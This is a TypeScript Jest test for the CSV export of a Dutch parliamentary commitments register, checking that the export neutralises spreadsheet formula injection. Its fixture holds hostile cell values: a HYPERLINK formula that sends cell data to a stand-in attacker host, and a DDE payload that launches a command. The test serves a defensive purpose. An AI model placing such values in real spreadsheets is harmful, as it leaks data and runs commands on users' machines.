import { describe, expect, it, jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { ItemKort } from '../types';
import { celwaarden, registerCsv } from './register-csv';

// Jest runs CommonJS; the browser build of csv-stringify is ESM. Both are built from the same source.
jest.mock('csv-stringify/browser/esm/sync', () => jest.requireActual('csv-stringify/sync'));

const item = (over: Partial<ItemKort>): ItemKort => ({
  itemId: '00000000-0000-4000-8000-000000000001',
  soort: 'toezegging',
  nummer: 'TZ202412-156',
  nummerBron: 'kamer',
  vergaderjaar: '2024/25',
  titel: 'Informeren over het aantal agenten met taakaccent ME',
  datum: '2024-12-19',
  leden: [{ naam: 'Michon-Derkzen', fractie: 'VVD' }],
  bewindspersoon: 'minister van Justitie en Veiligheid',
  ministerie: 'JenV',
  thema: 'Politiepersoneel en middelen',
  status: 'InBehandeling',
  termijn: { omschrijving: 'in het eerstvolgende halfjaarbericht', datum: '2025-06-30' },
  achterstallig: false,
  revisie: 0,
  laatsteWijziging: { op: '2024-12-19T10:00:00Z', event: 'ToezeggingGeregistreerd', door: 'griffier' },
  ...over,
});

describe('the register page\'s CSV export', () => {
  const vijandig = item({
    titel: '=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")',
    leden: [{ naam: '@SUM(1+1)*cmd|\' /C calc\'!A0', fractie: null }],
    bewindspersoon: '+31 70 1234567',
    thema: '  -2+3',
    termijn: { omschrijving: '\t=1+1', datum: null },
  });

  it('writes no cell a spreadsheet would run as a formula', () => {
    const cellen = (parse(registerCsv([item({}), vijandig]), { bom: true }) as string[][]).flat();
    expect(cellen.filter((c) => /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r]/.test(c))).toEqual([]);
    expect(cellen).toContain('\'=HYPERLINK("http://aanvaller.example/?d="&A1,"Klik hier")');
    expect(cellen).toContain('\'  -2+3');
  });

  it('still exports exactly what the table shows for ordinary rows', () => {
    const [kop, rij] = parse(registerCsv([item({})]), { bom: true }) as string[][];
    expect(kop).toEqual(['nummer', 'soort', 'titel', 'leden', 'bewindspersoon', 'thema', 'status', 'termijn', 'achterstallig']);
    expect(rij).toEqual(Object.values(celwaarden(item({}))));
  });
});
